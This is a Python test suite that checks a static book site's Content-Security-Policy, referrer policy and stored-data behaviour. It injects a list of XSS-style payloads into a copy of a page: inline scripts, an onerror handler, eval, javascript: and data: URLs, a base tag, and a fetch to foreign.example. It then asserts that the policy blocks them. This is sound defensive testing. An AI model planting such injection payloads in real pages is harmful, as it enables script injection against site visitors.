"""What a page must not do: run what is not the book's, keep anything, or tell where a reader was.

Each attack is first made on the page without its policy, where it must succeed: else the test
would show nothing.
"""

import re
import shutil
from html.parser import HTMLParser

import pytest

from ..conftest import ROOT, SITE
from .explorer_harness import wait_for_explorers, wait_until_idle
from .test_pages import PAGES

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
FOREIGN = "https://foreign.example/"
# Each sets a mark of its own; the file with an eval in it stands beside the page's own scripts.
ATTACKS = {
    "foreign": f'<script src="{FOREIGN}attack.js"></script>',
    "inline": "<script>ran.push('inline')</script>",
    "handler": """<img alt="" src="nowhere.png" onerror="ran.push('handler')">""",
    "eval": '<script src="eval.js"></script>',
    "function": '<script src="function.js"></script>',
    "address": """<iframe src="javascript:parent.ran.push('address')"></iframe>""",
    "data": """<script src="data:text/javascript,ran.push('data')"></script>""",
    "style": f'<link rel="stylesheet" href="{FOREIGN}attack.css">',
    "picture": f'<img alt="" src="{FOREIGN}attack.png">',
    "frame": f'<iframe src="{FOREIGN}"></iframe>',
    "fetch": '<script src="fetch.js"></script>',
    "base": f'<base href="{FOREIGN}">',
}
FILES = {
    "eval.js": "try { eval(\"ran.push('eval')\"); } catch {}",
    "function.js": "try { new Function(\"ran.push('function')\")(); } catch {}",
    "fetch.js": f"fetch('{FOREIGN}fetch').catch(() => {{}})",
}
WATCH = """
window.ran = [];
window.refused = [];
document.addEventListener("securitypolicyviolation", (e) => refused.push(e.effectiveDirective));
"""


def policy_of(name):
    return POLICY.search((SITE / name).read_text(encoding="utf-8"))[1]


def directives(policy):
    return {rule.split()[0]: rule.split()[1:] for rule in policy.split("; ")}


class Inline(HTMLParser):
    """What a page has inside itself that a browser could run."""

    def __init__(self):
        super().__init__()
        self.handlers = []

    def handle_starttag(self, tag, attributes):
        for name, value in attributes:
            if name.startswith("on") or (value or "").lstrip().lower().startswith("javascript:"):
                self.handlers.append((tag, name, value))


@pytest.mark.parametrize("name", PAGES)
def test_policy_allows_only_what_the_page_needs(name):
    rules = directives(policy_of(name))
    html = (SITE / name).read_text(encoding="utf-8")
    assert rules["default-src"] == ["'none'"]
    assert rules["base-uri"] == ["'none'"]
    own = {source for source in rules["script-src"] if not source.startswith("'sha256-")}
    assert own == {"'self'", "blob:"} if 'class="static-widget"' in html else {"'self'"}
    # Styles can be written inside elements, as KaTeX does, and nowhere else.
    assert "'unsafe-inline'" not in rules["style-src-elem"]
    assert rules["style-src-attr"] == ["'unsafe-inline'"]
    assert rules["connect-src"] == ["'self'"]
    everything = {source for sources in rules.values() for source in sources}
    assert not everything & {"*", "http:", "https:", "'unsafe-eval'", "'unsafe-hashes'"}
    # The policy governs only what comes after it.
    assert html.index("Content-Security-Policy") < min(
        html.index(tag) for tag in ("<script", "<style", "<link")
    )


@pytest.mark.parametrize("name", PAGES)
def test_page_has_no_inline_handler(name):
    parser = Inline()
    parser.feed((SITE / name).read_text(encoding="utf-8"))
    assert parser.handlers == []


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """Two copies of a page with everything hostile in it: with its policy, and without."""
    folder = tmp_path_factory.mktemp("attacked") / "site"
    shutil.copytree(SITE, folder)
    chapters = folder / "chapters"
    for name, text in FILES.items():
        (chapters / name).write_text(text)
    html = (chapters / "temperature.html").read_text(encoding="utf-8")
    html = html.replace("</body>", "".join(ATTACKS.values()) + "</body>")
    (chapters / "guarded.html").write_text(html, encoding="utf-8")
    (chapters / "open.html").write_text(POLICY.sub("", html), encoding="utf-8")
    return folder


@pytest.fixture
def attack(browser, serve, attacked):
    """Return a function that opens an attacked page: what ran, what was asked of others."""
    contexts = []

    def visit(name, scheme):
        contexts.append(browser.new_context())
        page = contexts[-1].new_page()
        page.add_init_script(WATCH)
        asked = []

        def answer(route):
            asked.append(route.request.url.removeprefix(FOREIGN))
            kind = "text/javascript" if route.request.url.endswith(".js") else "text/html"
            route.fulfill(body="ran.push('foreign')", content_type=kind)

        page.route(f"{FOREIGN}**", answer)
        base = serve(attacked) if scheme == "http" else attacked.as_uri()
        page.goto(f"{base}/chapters/{name}.html")
        page.locator(".softmax-explorer").first.wait_for()
        wait_until_idle(page)
        return page, set(page.evaluate("ran")), asked

    yield visit
    for context in contexts:
        context.close()


@pytest.mark.parametrize("scheme", ["http", "file"])
def test_nothing_hostile_runs_or_calls_out(attack, scheme):
    _, ran, asked = attack("open", scheme)
    assert ran == {"foreign", "inline", "handler", "eval", "function", "address", "data"}
    assert set(asked) >= {"", "attack.js", "attack.css", "attack.png", "fetch"}

    page, ran, asked = attack("guarded", scheme)
    assert ran == set()
    assert asked == []
    kinds = {"script-src-elem", "script-src-attr", "script-src", "frame-src", "base-uri"}
    assert {*kinds, "connect-src"} <= set(page.evaluate("refused"))
    # And the page itself works as before: its explorer moves.
    slider = page.locator(".softmax-explorer input[type=range]").first
    before = page.locator(".softmax-explorer").first.get_attribute("data-state")
    slider.press("End")
    page.wait_for_function(
        "before => document.querySelector('.softmax-explorer').dataset.state !== before",
        arg=before,
    )


@pytest.mark.parametrize("scheme", ["http", "file"])
@pytest.mark.parametrize("name", PAGES)
def test_page_does_all_it_does_within_its_policy(browser, site, name, scheme):
    if (name, scheme) == ("404.html", "file"):  # its addresses start at the root of a site
        return
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script(WATCH)
    page.goto(f"{site}/{name}" if scheme == "http" else (SITE / name).as_uri())
    wait_for_explorers(page)
    for slider in page.locator(".softmax-explorer input[type=range]").all():
        slider.press("ArrowRight")
    for button in page.locator("button.theme-toggle:visible, button.copybtn").all()[:2]:
        button.dispatch_event("click")
    wait_until_idle(page)
    assert page.evaluate("refused") == []
    context.close()


def test_a_page_may_ask_its_own_host_for_robots_txt(browser, serve, attacked):
    (attacked / "robots.txt").write_text("User-agent: *")
    page = browser.new_page()
    page.goto(f"{serve(attacked)}/chapters/temperature.html")
    read = "async () => (await fetch('/robots.txt')).text()"
    assert page.evaluate(read) == "User-agent: *"
    page.close()


KEPT = """async () => ({
    cookies: document.cookie,
    local: Object.keys(localStorage),
    session: Object.keys(sessionStorage),
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
})"""


def test_nothing_is_kept_but_the_choice_of_colours(browser, site):
    context = browser.new_context()
    page = context.new_page()
    for name in PAGES:
        page.goto(f"{site}/{name}")
    page.goto(f"{site}/search.html?q=entropy")
    page.locator("#search-results li a").first.click()
    wait_until_idle(page)
    empty = {"cookies": "", "session": [], "databases": 0, "caches": 0, "workers": 0}
    assert page.evaluate(KEPT) == {**empty, "local": []}
    page.locator("button.theme-toggle:visible").first.click()
    assert page.evaluate(KEPT) == {**empty, "local": ["theme"]}
    assert context.cookies() == []
    context.close()


def test_a_site_that_a_page_links_to_is_not_told_which_page(browser, site, serve, tmp_path):
    (tmp_path / "index.html").write_text("<title>Elsewhere</title>")
    elsewhere = f"{serve(tmp_path)}/"  # another port is another origin
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{site}/chapters/bibliography.html")
    link = page.locator("article a.external").first
    link.evaluate("(a, address) => { a.href = address; }", elsewhere)
    with page.expect_request(elsewhere) as request:
        link.click()
    page.wait_for_url(elsewhere)
    assert "referer" not in request.value.all_headers()
    assert page.evaluate("document.referrer") == ""
    context.close()


@pytest.mark.parametrize("name", PAGES)
def test_page_asks_for_no_referrer(name):
    assert '<meta name="referrer" content="no-referrer">' in (SITE / name).read_text("utf-8")


@pytest.fixture(scope="module")
def policy_for():
    """The extension's own function; sphinx_ext is no package."""
    with pytest.MonkeyPatch.context() as patch:
        patch.syspath_prepend(str(ROOT / "sphinx_ext"))
        from book_policy import policy_for

        yield policy_for


def test_inline_script_is_allowed_by_the_hash_of_its_text(policy_for):
    # printf '%s' 'const [opened] = performance' | openssl dgst -sha256 -binary | base64
    digest = "'sha256-qBsdnlwSXnkj4wNxHcxReKyt0y7OkCBosRYySNxN0aA='"
    scripts = directives(policy_for("<script>const [opened] = performance</script>"))["script-src"]
    assert scripts == ["'self'", digest]


@pytest.mark.parametrize(
    "html", ['<script type="application/json">{}</script>', '<script defer src="a.js"></script>']
)
def test_data_and_files_need_no_hash(policy_for, html):
    assert directives(policy_for(html))["script-src"] == ["'self'"]
